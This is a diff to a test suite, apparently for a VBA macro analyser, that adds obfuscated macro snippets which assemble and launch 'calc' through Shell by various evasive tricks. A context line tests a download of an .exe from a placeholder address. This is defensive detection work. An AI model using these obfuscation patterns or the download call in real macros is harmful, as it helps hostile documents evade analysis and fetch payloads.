@@ -65,6 +65,14 @@ suite('expressions are folded', () => {
     'GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}").Run "calc"': 'calc',
     'Set e = CreateObject("Msxml2.DOMDocument").createElement("a")\ne.DataType = "bin.base64"\ne.Text = "Y2FsYw=="\nShell StrConv(e.nodeTypedValue, 64)':
       'calc',
+    'Set d = CreateObject("Scripting.Dictionary")\nd.Add "x", "ca"\nd("y") = "lc"\nShell d("X") & d.Item("y")': 'calc',
+    'Set d = CreateObject("Scripting.Dictionary")\nd.Add 1, "ca"\nd.Add 2, "lc"\nShell Join(d.Items, "")': 'calc',
+    'Dim c As New Collection\nc.Add "ca"\nc.Add "lc", "k"\nShell c(1) & c("k")': 'calc',
+    'Dim c As New Collection\nc.Add "ca"\nc.Add "lc"\nFor Each x In c: s = s & x: Next\nShell s': 'calc',
+    'Dim t As Pair\nt.a = "ca"\nWith t\n.b = "lc"\nEnd With\nShell t.a & t.b': 'calc',
+    's = "xxxx"\nMid(s, 1, 2) = "calc": Mid$(s, 3) = "lcx"\nShell s': 'calc',
+    '#If VBA7 Then\ns = "calc"\n#Else\ns = "no"\n#End If\nShell s': 'calc',
+    'Shell Filter(Split("no calc"), "a")(0)': 'calc',
     '[Shell] "calc"': 'calc',
     'SHELL "calc"': 'calc',
   }
@@ -89,6 +97,21 @@ suite('expressions are folded', () => {
     assert.deepEqual(effectsOf(declare + macro('g 0, "http://192.0.2.1/a", "a.exe", 0, 0')), [
       'fetch http://192.0.2.1/a a.exe',
     ])
+  })
+
+  test('a function of the language, although the program has one of the same name', () => {
+    assert.equal(
+      started('Shell VBA.Replace("cXalc", "X", "")', 'Function Replace(a, b, c)\nReplace = "no"\nEnd Function'),
+      'calc',
+    )
+  })
+
+  test('values that jumps bring from below', () => {
+    for (const body of [
+      'GoSub w\nShell s\nExit Sub\nw:\ns = "calc"\nReturn',
+      'GoTo a\nb:\nShell s\nExit Sub\na:\ns = "calc"\nGoTo b',
+    ])
+      assert.ok(effectsOf(macro(body)).includes('start calc'), body)
   })
 
   test('code in texts', () => {
